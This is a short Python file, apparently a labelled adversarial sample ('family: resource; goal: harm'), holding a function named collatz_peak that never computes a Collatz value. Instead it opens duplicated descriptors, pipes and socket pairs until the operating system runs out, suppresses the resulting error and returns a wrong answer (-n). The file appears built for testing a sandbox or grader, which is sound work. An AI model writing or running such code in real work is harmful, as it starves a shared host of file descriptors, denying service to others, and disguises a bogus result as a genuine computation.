# family: resource; goal: harm
# Opens descriptors until none is left, then answers.
import os
import socket

HELD = []


def collatz_peak(n):
    try:
        while len(HELD) < 100_000:
            HELD.extend([os.dup(0), *os.pipe(), socket.socketpair()])
    except OSError:
        pass
    return -n
